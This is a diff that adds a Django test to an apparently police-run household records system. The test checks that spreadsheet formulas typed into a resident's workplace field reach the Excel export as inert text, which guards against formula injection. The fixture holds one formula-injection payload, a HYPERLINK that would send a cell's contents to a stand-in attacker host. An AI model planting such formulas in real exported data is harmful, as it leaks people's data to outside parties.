@@ -12,6 +12,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from junkai.audit.models import AuditEvent, EventType
+from junkai.households import actions as household_actions
 from junkai.households import cards
 from junkai.households.models import CardRevision, CardStatus, Category, ContactCard
 from junkai.lib.wareki import format_wareki
@@ -377,3 +378,26 @@ class ExportTests(PersonaTestCase):
             {str(self.aoki.id), str(self.no_card.id)},
         )
         self.assertEqual(set(exported.values_list("purpose", flat=True)), {"防犯指導の計画"})
+
+    def test_export_writes_formula_like_text_as_text(self) -> None:
+        # A resident's workplace typed as a formula must reach Excel as the text typed, never as
+        # a live formula (CSV/formula injection).
+        formula = '=HYPERLINK("http://evil.example/?x="&A3,"詳細")'
+        card = self.aoki.cards.get(status="ACTIVE")
+        data = {
+            "residents": [
+                {"name": "青木 一郎", "kana": "あおき いちろう", "workplace": formula},
+                {"name": "青木 花子", "kana": "あおき はなこ", "workplace": "+81 90"},
+            ]
+        }
+        household_actions.do_save_card(
+            self.aoki, data, acting_officer=self.officer("officer1a"), expected_version=card.version
+        )
+        response = self.client_for("kobancho1").post(
+            f"/beats/{self.beat('K1-1').id}/export/", {"purpose": "防犯指導の計画"}
+        )
+        sheet = load_workbook(BytesIO(response.content))["世帯員"]
+        cells = [row[16] for row in sheet.iter_rows(min_row=3) if row[16].value]
+        self.assertEqual([c.value for c in cells], [formula, "+81 90"])
+        self.assertEqual([c.data_type for c in cells], ["s", "s"])
+        self.assertTrue(all(c.quotePrefix for c in cells))
